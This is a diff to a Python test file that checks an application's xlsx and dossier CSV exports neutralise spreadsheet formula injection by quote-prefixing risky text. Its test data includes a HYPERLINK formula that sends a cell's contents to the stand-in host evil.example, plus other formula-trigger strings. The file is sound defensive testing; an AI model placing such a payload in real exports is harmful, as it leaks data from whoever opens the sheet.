@@ -1,13 +1,18 @@
-"""Issue 11, break 4: no exported text becomes a live formula, and no stored text crashes an export."""
+"""Issue 11, break 4: no exported text becomes a live formula (xlsx and the dossier's CSV), and no stored text
+crashes an export."""
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
 
+from workflow.audit.dossier import CSV_COLUMNS, to_csv
 from workflow.reports.xlsx import CANDIDATE_COLUMNS, Column, Sheet, candidate_sheet, write_workbook
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
+HOSTILE = [FORMULA, "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1"]
 
 
@@ -37,3 +42,11 @@ def test_a_control_character_stored_before_it_was_refused_does_not_crash_the_exp
     ws = load_workbook(path)["Danh sách"]
     assert ws["B2"].value == "Nguyễn\ufffdVăn\ufffd[31m An"
     assert [c.value for c in ws[1]] == [c.header for c in CANDIDATE_COLUMNS]
+
+
+def test_the_dossier_csv_quote_prefixes_a_text_excel_would_read_as_a_formula() -> None:
+    row = dict.fromkeys(CSV_COLUMNS) | {"version": 1, "step": "identify", "forms": [], "corrections": [],
+                                             "corrects": None, "payload": {"full_name": "An"},
+                                             "actor": "@SUM(1+1)", "org_name": FORMULA, "org": "CB-01"}
+    (line,) = list(csv.DictReader(io.StringIO(to_csv({"timeline": [row]}))))
+    assert (line["actor"], line["org_name"], line["org"]) == ("'@SUM(1+1)", "'" + FORMULA, "CB-01")
